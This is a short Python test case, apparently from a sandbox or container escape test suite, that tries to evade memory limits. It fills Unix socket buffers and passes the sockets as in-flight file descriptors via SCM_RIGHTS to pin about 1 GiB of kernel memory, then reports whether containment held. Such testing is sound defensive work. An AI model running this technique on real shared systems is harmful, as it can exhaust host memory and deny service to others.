# attack: descriptors_beyond_the_table
# threat: memory
# expect: CONTAINED: sockets that exist only as messages in flight do not hold more than the job may have
import array, os, socket, time
total, kept = 0, []
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
a.setblocking(False)
try:
    while total < 1 << 30:
        c, d = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        c.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)
        c.setblocking(False)
        try:
            while True:
                total += c.send(b"x" * 60000)
        except BlockingIOError:
            pass
        try:
            a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [c.fileno(), d.fileno()]))])
        except BlockingIOError:
            kept.append((a, b))
            a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            a.setblocking(False)
        c.close()
        d.close()
    time.sleep(1.5)
    print("ESCAPED", total >> 20, "MiB in flight")
except OSError as e:
    print("CONTAINED errno", e.errno, "at", total >> 20, "MiB")
